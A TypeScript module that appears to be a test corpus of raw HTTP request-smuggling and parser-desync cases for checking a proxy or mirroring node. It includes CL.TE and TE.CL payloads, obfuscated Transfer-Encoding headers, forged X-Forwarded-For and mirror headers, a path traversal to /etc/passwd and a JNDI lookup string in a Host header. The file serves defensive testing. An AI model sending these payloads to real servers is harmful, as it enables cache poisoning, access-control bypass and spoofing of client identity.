/**
 * What a client can send to make two parsers disagree. Each is one connection's bytes; `why` says who would read it
 * how.
 */
interface DesyncCase {
  readonly name: string;
  readonly why: string;
  readonly bytes: string;
}

const SMUGGLED = 'GET /smuggled HTTP/1.1\r\nHost: b\r\nX-Forwarded-For: 6.6.6.6\r\nX-Mirror-Id: forged\r\nX-SERVER-ADDR: 6.6.6.6\r\n\r\n';
const chunk = (data: string): string => `${data.length.toString(16)}\r\n${data}\r\n`;

export const DESYNC_CASES: readonly DesyncCase[] = [
  {
    name: 'CL.TE', why: 'a reader of Content-Length takes the rest for a second request',
    bytes: `POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${SMUGGLED}`,
  },
  {
    name: 'TE.CL', why: 'a reader of Content-Length stops within the first chunk',
    bytes: `POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n${chunk(SMUGGLED)}0\r\n\r\n`,
  },
  {
    name: 'differing Content-Length', why: 'first or last wins',
    bytes: `POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\nContent-Length: ${SMUGGLED.length}\r\n\r\n${SMUGGLED}`,
  },
  { name: 'the same Content-Length twice', why: 'refused or accepted', bytes: 'POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 2\r\nContent-Length: 2\r\n\r\nhi' },
  {
    name: 'a list in Content-Length', why: 'first, last or refused',
    bytes: `POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 0, ${SMUGGLED.length}\r\n\r\n${SMUGGLED}`,
  },
  ...['+2', '-1', '0x2', '2 ', '02', '2e0', '18446744073709551618', '2;', '"2"', '2\t', ''].map((value) => ({
    name: `Content-Length: ${JSON.stringify(value)}`, why: 'lenient number parsers read another length',
    bytes: `POST / HTTP/1.1\r\nHost: a\r\nContent-Length: ${value}\r\n\r\nhi${SMUGGLED}`,
  })),
  ...[
    'Transfer_Encoding: chunked', 'Transfer-Encoding : chunked', ' Transfer-Encoding: chunked', 'Transfer-Encoding:\x0bchunked',
    'Transfer-Encoding: xchunked', 'Transfer-Encoding: chunked, identity', 'Transfer-Encoding: identity', 'Transfer-Encoding: "chunked"',
    'Transfer-Encoding: chunked;q=1', 'X: x\nTransfer-Encoding: chunked', 'Transfer-Encoding\x00: chunked', '\x01Transfer-Encoding: chunked',
    'Transfer-Encoding:\r\n chunked', 'Transfer-Encoding: chun\r\n ked', 'Tran\xc5\xbffer-Encoding: chunked', 'Transfer-Encod\xc4\xb1ng: chunked',
    'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
    'Transfer-Encoding: gzip, chunked', 'Transfer-Encoding\r\n: chunked', 'transfer-encoding\xa0: chunked', 'Transfer-Encoding: CHUNKED',
    'Transfer-Encoding: chunked\x00', 'Transfer-Encoding: \tchunked\t',
  ].map((line) => ({
    name: JSON.stringify(line), why: 'chunked to one parser, nothing to the next',
    bytes: `POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n${line}\r\n\r\n0\r\n\r\n${SMUGGLED}`,
  })),
  ...['Content_Length: 5', 'Content-Length : 5', 'Content\x00-Length: 5', 'Content-Length\t: 5'].map((line) => ({
    name: JSON.stringify(line), why: 'a length to one parser, nothing to the next',
    bytes: `POST / HTTP/1.1\r\nHost: a\r\n${line}\r\n\r\nhello${SMUGGLED}`,
  })),
  ...[
    ['0x prefix', '0x5\r\nhello\r\n0\r\n\r\n'], ['plus sign', '+5\r\nhello\r\n0\r\n\r\n'], ['blank before the size', ' 5\r\nhello\r\n0\r\n\r\n'],
    ['blank behind the size', '5 \r\nhello\r\n0\r\n\r\n'], ['bare LF behind the size', '5\nhello\r\n0\r\n\r\n'], ['bare LF behind the data', '5\r\nhello\n0\r\n\r\n'],
    ['too much data', '5\r\nhelloX\r\n0\r\n\r\n'], ['no end of line behind the data', '5\r\nhello0\r\n\r\n'], ['size of 2^64 + 5', '10000000000000005\r\nhello\r\n0\r\n\r\n'],
    ['size of 2^32 + 5', '100000005\r\nhello\r\n0\r\n\r\n'], ['extension with a bare LF', '5;a\nb\r\nhello\r\n0\r\n\r\n'], ['extension with a bare CR', '5;a\rb\r\nhello\r\n0\r\n\r\n'],
    ['extension that is fine', '5;a="b"\r\nhello\r\n0\r\n\r\n'], ['trailer that frames', '5\r\nhello\r\n0\r\nContent-Length: 40\r\n\r\n'],
    ['trailer with our names', '5\r\nhello\r\n0\r\nX-Forwarded-For: 6.6.6.6\r\nX-Mirror-Id: forged\r\n\r\n'],
    ['trailer that is fine', '5\r\nhello\r\n0\r\nX-Checksum: 1\r\n\r\n'], ['trailer without a colon', '5\r\nhello\r\n0\r\nnonsense\r\n\r\n'],
    ['no size', '\r\nhello\r\n0\r\n\r\n'], ['leading zeros', '00000000000000000005\r\nhello\r\n0\r\n\r\n'], ['size in upper case', 'A\r\n0123456789\r\n0\r\n\r\n'],
    ['last chunk with more zeros', '5\r\nhello\r\n000\r\n\r\n'], ['underscore in the size', '1_0\r\nhello\r\n0\r\n\r\n'], ['last chunk with bare LFs', '5\r\nhello\r\n0\n\n'],
  ].map(([name, body]) => ({
    name: `chunked: ${name}`, why: 'lenient chunk parsers differ',
    bytes: `POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n${body}${SMUGGLED}`,
  })),
  { name: 'bare LF everywhere', why: 'lines, or one long line', bytes: `GET / HTTP/1.1\nHost: a\nX: y\n\n${SMUGGLED}` },
  { name: 'bare LF within a value', why: 'a line of ours, or part of a value', bytes: 'GET / HTTP/1.1\r\nHost: a\r\nX: y\nX-Forwarded-For: 6.6.6.6\r\n\r\n' },
  { name: 'bare CR within a value', why: 'a line of ours, or part of a value', bytes: 'GET / HTTP/1.1\r\nHost: a\r\nX: y\rX-Forwarded-For: 6.6.6.6\r\n\r\n' },
  { name: 'bare CR as the end of the head', why: 'body, or head', bytes: `GET / HTTP/1.1\r\nHost: a\r\nX: y\r\r${SMUGGLED}` },
  { name: 'obs-fold', why: 'a value, or a line of its own', bytes: 'GET / HTTP/1.1\r\nHost: a\r\nX: y\r\n X-Forwarded-For: 6.6.6.6\r\n\r\n' },
  { name: 'obs-fold before the first line', why: 'request line, or header', bytes: 'GET / HTTP/1.1\r\n X-Forwarded-For: 6.6.6.6\r\nHost: a\r\n\r\n' },
  { name: 'NUL in a value', why: 'the end of a C string', bytes: 'GET / HTTP/1.1\r\nHost: a\r\nX: y\x00z\r\n\r\n' },
  { name: 'NUL in the target', why: 'the end of a C string', bytes: 'GET /a\x00b HTTP/1.1\r\nHost: a\r\n\r\n' },
  { name: '%00 in the target', why: 'refused by NGINX', bytes: 'GET /a%00.jpg HTTP/1.1\r\nHost: a\r\n\r\n' },
  { name: 'above the root', why: 'refused by NGINX', bytes: 'POST /../../etc/passwd HTTP/1.1\r\nHost: a\r\nContent-Length: 2\r\n\r\nhi' },
  { name: 'a slash in Host', why: 'refused by NGINX', bytes: 'GET /a HTTP/1.1\r\nHost: ${jndi:ldap://x/y}\r\n\r\n' },
  { name: 'an empty Host', why: 'refused by NGINX', bytes: 'GET /a HTTP/1.1\r\nHost:\r\n\r\n' },
  { name: 'two Authorizations', why: 'refused by NGINX', bytes: 'POST /a HTTP/1.1\r\nHost: a\r\nAuthorization: 1\r\nAuthorization: 2\r\nContent-Length: 2\r\n\r\nhi' },
  { name: 'two If-Matches and %00', why: 'refused by NGINX', bytes: 'GET /%00 HTTP/1.1\r\nHost: a\r\nIf-Match: 1\r\nIf-Match: 2\r\n\r\n' },
  { name: 'TRACE', why: 'refused by NGINX', bytes: 'TRACE /a HTTP/1.1\r\nHost: a\r\n\r\n' },
  { name: 'NUL in a name', why: 'the end of a C string', bytes: 'GET / HTTP/1.1\r\nHost: a\r\nX-\x00Y: z\r\n\r\n' },
  { name: 'control bytes in the target', why: 'refused or not', bytes: 'GET /a\x01\x7f\tb HTTP/1.1\r\nHost: a\r\n\r\n' },
  { name: 'blank in the target', why: 'a version to some', bytes: 'GET /a HTTP/1.0 HTTP/1.1\r\nHost: a\r\n\r\n' },
  { name: 'tab for blank', why: 'a request line to some', bytes: 'GET\t/a\tHTTP/1.1\r\nHost: a\r\n\r\n' },
  { name: 'two blanks', why: 'an empty target to some', bytes: 'GET  /a  HTTP/1.1\r\nHost: a\r\n\r\n' },
  { name: 'HTTP/0.9', why: 'no head at all', bytes: 'GET /a\r\n\r\n' },
  { name: 'HTTP/1.2', why: 'refused or not', bytes: 'GET /a HTTP/1.2\r\nHost: a\r\n\r\n' },
  { name: 'HTTP/2.0', why: 'refused or not', bytes: 'GET /a HTTP/2.0\r\nHost: a\r\n\r\n' },
  { name: 'HTTP/01.1', why: 'refused or not', bytes: 'GET /a HTTP/01.1\r\nHost: a\r\n\r\n' },
  { name: 'HTTP/1.0 with chunks', why: 'HTTP/1.0 knows no chunks', bytes: `POST / HTTP/1.0\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n${chunk(SMUGGLED)}0\r\n\r\n` },
  { name: 'HTTP/1.0 keep-alive', why: 'closed or not', bytes: 'GET /a HTTP/1.0\r\nConnection: keep-alive\r\n\r\nGET /b HTTP/1.0\r\n\r\n' },
  { name: 'no Host', why: 'refused or not', bytes: 'GET /a HTTP/1.1\r\nX: y\r\n\r\n' },
  { name: 'two Hosts', why: 'first, last or refused', bytes: 'GET /a HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n' },
  { name: 'GET with a body', why: 'a body, or the next request', bytes: `GET /a HTTP/1.1\r\nHost: a\r\nContent-Length: ${SMUGGLED.length}\r\n\r\n${SMUGGLED}` },
  { name: 'GET with chunks', why: 'a body, or the next request', bytes: `GET /a HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n${chunk(SMUGGLED)}0\r\n\r\n` },
  { name: 'HEAD with a body', why: 'a body, or the next request', bytes: `HEAD /a HTTP/1.1\r\nHost: a\r\nContent-Length: ${SMUGGLED.length}\r\n\r\n${SMUGGLED}` },
  { name: 'a line without a colon', why: 'the end of the head to some', bytes: 'GET /a HTTP/1.1\r\nHost: a\r\nnonsense\r\nX: y\r\n\r\n' },
  { name: 'a line without a name', why: 'refused or not', bytes: 'GET /a HTTP/1.1\r\nHost: a\r\n: y\r\n\r\n' },
  { name: 'a line of blanks', why: 'the end of the head to some', bytes: 'GET /a HTTP/1.1\r\nHost: a\r\n \t \r\nX-Forwarded-For: 6.6.6.6\r\n\r\n' },
  { name: 'Connection that names our lines', why: 'intermediaries remove what it names', bytes: 'GET /a HTTP/1.1\r\nHost: a\r\nConnection: close, X-Forwarded-For, X-Mirror-Id\r\n\r\n' },
  { name: 'Upgrade', why: 'the connection would no longer be HTTP', bytes: `GET /a HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n${SMUGGLED}` },
  { name: 'h2c upgrade', why: 'the connection would no longer be HTTP/1', bytes: 'GET /a HTTP/1.1\r\nHost: a\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n' },
  { name: 'CONNECT', why: 'a tunnel to some', bytes: `CONNECT a:80 HTTP/1.1\r\nHost: a\r\n\r\n${SMUGGLED}` },
  { name: 'an invented method', why: 'refused by load balancers', bytes: 'PROPFIND /a HTTP/1.1\r\nHost: a\r\nContent-Length: 2\r\n\r\nhi' },
  { name: 'a method in lower case', why: 'refused by NGINX', bytes: 'get /a HTTP/1.1\r\nHost: a\r\n\r\n' },
  { name: 'a method with a quote', why: 'no token', bytes: 'G"T /a HTTP/1.1\r\nHost: a\r\n\r\n' },
  { name: 'Expect', why: 'the body waits to some', bytes: 'POST /a HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: 2\r\n\r\nhi' },
  {
    name: 'our names, forged', why: 'the node must believe ours only',
    bytes: 'GET /a HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: 6.6.6.6\r\nx_forwarded_for: 6.6.6.6\r\nX-REAL-IP: 6.6.6.6\r\nX-Mirror-Id: forged\r\n'
      + 'X-Mirror-Original-Host: forged\r\nx_mirror_loop: forged\r\nX-Response-Status: 500\r\nX-SERVER_ADDR: 6.6.6.6\r\nX-Mirror-Complete: false\r\n\r\n',
  },
  { name: 'our name with a blank before the colon', why: 'trimmed by some', bytes: 'GET /a HTTP/1.1\r\nHost: a\r\nX-Forwarded-For : 6.6.6.6\r\nX-Mirror-Id\t: forged\r\n\r\n' },
  { name: 'our name behind a NUL', why: 'trimmed by some', bytes: 'GET /a HTTP/1.1\r\nHost: a\r\n\x00X-Forwarded-For: 6.6.6.6\r\n\r\n' },
  { name: 'a head without an end', why: 'waits for ever', bytes: 'POST /a HTTP/1.1\r\nHost: a\r\nContent-Length: 10\r\nX: y' },
  { name: 'a body without an end', why: 'takes the next request for its body', bytes: 'POST /a HTTP/1.1\r\nHost: a\r\nContent-Length: 1000\r\n\r\nonly this' },
  { name: 'chunks without an end', why: 'takes the next request for a chunk', bytes: `POST /a HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n${chunk('hello')}ff\r\npart` },
  { name: 'pipelined', why: 'each is a request', bytes: 'GET /1 HTTP/1.1\r\nHost: a\r\n\r\nPOST /2 HTTP/1.1\r\nHost: a\r\nContent-Length: 2\r\n\r\nhiGET /3 HTTP/1.1\r\nHost: a\r\n\r\n' },
  { name: 'absolute target', why: 'its host, or the line\'s', bytes: 'GET http://evil/a HTTP/1.1\r\nHost: a\r\n\r\n' },
  { name: 'OPTIONS *', why: 'no path', bytes: 'OPTIONS * HTTP/1.1\r\nHost: a\r\n\r\n' },
  { name: 'a request line of 20,000 bytes', why: 'refused by load balancers', bytes: `GET /${'a'.repeat(20_000)} HTTP/1.1\r\nHost: a\r\n\r\n` },
  { name: 'a header of 20,000 bytes', why: 'refused by load balancers', bytes: `GET /a HTTP/1.1\r\nHost: a\r\nX: ${'a'.repeat(20_000)}\r\n\r\n` },
  // With ours they stay below NGINX's limit of a thousand lines.
  { name: '950 headers', why: 'beyond tables of fixed size', bytes: `GET /a HTTP/1.1\r\nHost: a\r\n${'X: y\r\n'.repeat(950)}\r\n` },
];
